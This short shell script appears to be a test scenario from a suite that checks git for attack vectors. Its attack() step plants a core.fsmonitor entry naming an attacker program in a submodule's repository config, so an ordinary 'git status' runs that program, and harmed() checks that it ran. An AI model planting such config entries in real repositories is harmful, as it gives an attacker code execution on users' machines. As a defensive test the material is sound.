# The configuration of a submodule's repository names a program.
prepare() {
    git submodule --quiet add "$REMOTE" sub
    git commit -qm sub
}
attack() {
    evil
    git config -f .git/modules/sub/config core.fsmonitor "$EVIL"
    printf "[core]\n\tfsmonitor = %s\n" "$EVIL" >>.git/modules/sub/config
}
human() {
    git status
}
harmed() {
    executed
}
